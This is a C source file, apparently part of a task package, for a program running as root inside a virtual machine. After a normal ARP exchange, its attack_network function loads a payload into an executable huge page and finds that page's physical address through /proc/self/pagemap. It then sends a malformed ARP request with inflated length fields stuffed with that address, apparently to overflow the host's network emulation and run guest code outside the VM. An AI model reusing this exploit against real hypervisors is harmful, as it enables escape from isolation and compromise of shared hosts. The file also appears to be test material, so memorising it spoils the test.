/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * What root in the guest does with its network card: asks the one other station for its address,
 * and then, in the same words, sends it an exploit.
 *
 * Sources: packet(7), netdevice(7); RFC 826; Linux, Documentation/admin-guide/mm/hugetlbpage.rst
 * and pagemap.rst.
 */
#include <arpa/inet.h>
#include <elf.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#include "../task8.h"
#include "guest_program.h"

enum { PATIENCE = 5000 /* milliseconds */, FRAME = 1024, CODE_MOST = 0x10000 };
enum { HARDWARE_BYTES = 18, PROTOCOL_BYTES = 19, OPERATION = 20, SENDER = 22 };

static const uint8_t card[6] = {0x52, 0x54, 0, 0, 0, 1};

/* A socket for frames of ARP's on the card, which is switched on; or -1. */
static int open_card(void)
{
    struct ifreq request;
    struct sockaddr_ll where;
    int line = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ARP));

    memset(&request, 0, sizeof(request));
    memset(&where, 0, sizeof(where));
    (void)snprintf(request.ifr_name, sizeof(request.ifr_name), "eth0");
    if (line < 0 || ioctl(line, SIOCGIFINDEX, &request) != 0) {
        return -1;
    }
    where.sll_family = AF_PACKET;
    where.sll_protocol = htons(ETH_P_ARP);
    where.sll_ifindex = request.ifr_ifindex;
    request.ifr_flags = IFF_UP | IFF_RUNNING;
    if (ioctl(line, SIOCSIFFLAGS, &request) != 0 ||
        bind(line, (struct sockaddr *)&where, sizeof(where)) != 0) {
        return -1;
    }
    return line;
}

/* The question who has 10.0.8.1, of somebody whose addresses have so many bytes. */
static void fill_question(uint8_t *frame, uint8_t hardware_bytes, uint8_t protocol_bytes)
{
    static const uint8_t begin[] = {0x08, 0x06, 0, 1, 0x08, 0x00};

    memset(frame, 0, FRAME);
    memset(frame, 0xff, 6);
    memcpy(frame + 6, card, sizeof(card));
    memcpy(frame + 12, begin, sizeof(begin));
    frame[HARDWARE_BYTES] = hardware_bytes;
    frame[PROTOCOL_BYTES] = protocol_bytes;
    frame[OPERATION + 1] = 1;
}

void ask_network(void)
{
    static const uint8_t own[] = {10, 0, 8, 2};
    static const uint8_t wanted[] = {10, 0, 8, 1};
    uint8_t frame[FRAME];
    int line = open_card();
    struct pollfd ready = {line, POLLIN, 0};
    unsigned right = 0;

    fill_question(frame, 6, 4);
    memcpy(frame + SENDER, card, sizeof(card));
    memcpy(frame + SENDER + 6, own, sizeof(own));
    memcpy(frame + SENDER + 16, wanted, sizeof(wanted));
    if (write(line, frame, 60) == 60 && poll(&ready, 1, PATIENCE) == 1 &&
        read(line, frame, sizeof(frame)) >= 42) {
        right = frame[OPERATION + 1] == 2 && memcmp(frame + SENDER + 6, wanted, 4) == 0 &&
                memcmp(frame + SENDER + 10, card, sizeof(card)) == 0;
    }
    report("network", right, 1);
    (void)close(line);
}

/* A large page, which is one piece of what the guest takes for physical memory. */
static uint8_t *large_page(void)
{
    int count = open("/proc/sys/vm/nr_hugepages", O_WRONLY | O_CLOEXEC);
    void *page;

    (void)!write(count, "1", 1);
    (void)close(count);
    page = mmap(NULL, CODE_ALIGNMENT, PROT_READ | PROT_WRITE | PROT_EXEC,
                MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB | MAP_POPULATE, -1, 0);
    return page == MAP_FAILED ? NULL : page;
}

/* Where that is; only root is told. */
static uint64_t physical(const void *page)
{
    const uint64_t number = (1ull << 55) - 1;
    int file = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);
    uint64_t entry = 0;

    (void)!pread(file, &entry, sizeof(entry), (off_t)((uintptr_t)page / 4096 * 8));
    (void)close(file);
    return (entry & number) * 4096;
}

/* The code is the one segment of a program. */
static unsigned place_code(uint8_t *page)
{
    int file = open("/modules/payload", O_RDONLY | O_CLOEXEC);
    Elf64_Ehdr header;
    Elf64_Phdr segment;
    unsigned placed = read(file, &header, sizeof(header)) == sizeof(header) &&
                      pread(file, &segment, sizeof(segment), (off_t)header.e_phoff) ==
                          sizeof(segment) &&
                      segment.p_filesz <= CODE_MOST &&
                      pread(file, page, segment.p_filesz, (off_t)segment.p_offset) ==
                          (ssize_t)segment.p_filesz;

    (void)close(file);
    __builtin___clear_cache((char *)page, (char *)page + CODE_MOST);
    return placed;
}

/* 32 times the address of the code, as the address of who asks. */
void attack_network(void)
{
    enum { HARDWARE = 200, PROTOCOL = 56 };
    uint8_t frame[FRAME];
    uint8_t *page = large_page();
    int line = open_card();

    if (page != NULL && place_code(page) != 0 && physical(page) != 0) {
        uint64_t entry = physical(page) + CODE_ENTRY;

        fill_question(frame, HARDWARE, PROTOCOL);
        for (unsigned i = 0; i < HARDWARE + PROTOCOL; i += sizeof(entry)) {
            memcpy(frame + SENDER + i, &entry, sizeof(entry));
        }
        (void)!write(line, frame, SENDER + 2 * (HARDWARE + PROTOCOL));
    }
    report("exploit", 0, 1); /* or nobody is left who could report */
}
